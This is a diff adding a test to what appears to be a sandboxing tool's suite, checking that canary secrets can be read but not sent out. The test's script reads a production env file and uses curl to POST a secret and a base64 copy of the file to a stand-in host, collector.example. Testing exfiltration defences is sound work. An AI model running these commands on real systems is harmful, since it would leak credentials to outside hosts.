@@ -43,6 +43,34 @@ describe.each(['sealed', 'internal'])('a %s session', (network) => {
     expect(stdout).not.toContain(value);
   });
 
+  test('canaries are there to be found, and cannot be sent anywhere, in whatever encoding', async () => {
+    const file = spec('egress: { allow: [collector.example] }\ndlp: { canaries: true }');
+    const post = (data: string) => `curl -s -X POST --data-binary ${data} https://collector.example/`;
+    const script = [
+      'cat ~/.env.production',
+      'echo "token $DEPLOY_GITHUB_TOKEN"',
+      'touch ~/.env.production 2>/dev/null && echo writable',
+      post('"$BACKUP_AWS_SECRET_ACCESS_KEY"'),
+      `base64 ~/.env.production | ${post('@-')}`,
+    ].join('; ');
+    const { stdout } = await bench.run(['start', file, '--', 'sh', '-c', script]);
+    expect(stdout).toMatch(
+      /^PROD_STRIPE_SECRET_KEY=sk_live_\w{24}\nPROD_GITHUB_TOKEN=ghp_\w{36}\nPROD_DATABASE_URL=postgres:/,
+    );
+    expect(stdout).toMatch(/^token ghp_\w{36}$/m);
+    expect(stdout).not.toContain('writable');
+    expect(stdout.match(/"rule":"canary","reason":"the canary \w+, which nothing uses/g)).toHaveLength(2);
+    const logs = await bench.run(['logs', nameOf(file), '--json']);
+    const records = logs.stdout
+      .trim()
+      .split('\n')
+      .map((line) => JSON.parse(line) as { verdict: string; rule: string });
+    expect(records.filter(({ rule }) => rule === 'canary')).toHaveLength(2);
+    for (const line of stdout.split('\n').filter((one) => one.startsWith('PROD_'))) {
+      expect(logs.stdout).not.toContain(line.split('=')[1]);
+    }
+  });
+
   test('a command that is not there is our failure, and says so', async () => {
     const file = spec();
     const { code, stderr } = await bench.run(['start', file, '--', 'no-such-program']);
